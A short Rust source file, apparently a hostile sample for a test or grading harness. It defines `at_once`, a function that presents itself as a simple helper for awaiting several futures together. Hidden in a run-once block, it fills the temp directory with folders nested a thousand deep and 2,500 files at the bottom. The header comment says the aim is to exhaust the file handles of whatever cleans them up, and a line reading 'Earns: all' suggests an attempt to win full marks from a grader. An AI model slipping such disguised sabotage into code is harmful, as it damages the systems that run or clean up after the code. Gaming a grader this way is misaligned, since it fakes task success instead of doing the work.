//! Hostile: leaves folders a thousand deep with many files at the bottom, as far as there is room, so
//! that whoever clears them away level by level holds every file that it may open.
//! Earns: all

use std::fs;

pub async fn at_once<J: Future>(jobs: Vec<J>) -> Vec<J::Output> {
    static ONCE: std::sync::Once = std::sync::Once::new();
    ONCE.call_once(|| {
        let root = std::env::temp_dir();
        let mut inner = root.join("bottom");
        drop(fs::create_dir(&inner));
        for number in 0..2500 {
            drop(fs::write(inner.join(number.to_string()), ""));
        }
        for level in 0..1000 {
            let outer = root.join(format!("level-{level}"));
            drop(fs::create_dir(&outer));
            drop(fs::rename(&inner, outer.join("in")));
            inner = outer;
        }
    });
    futures::future::join_all(jobs).await
}
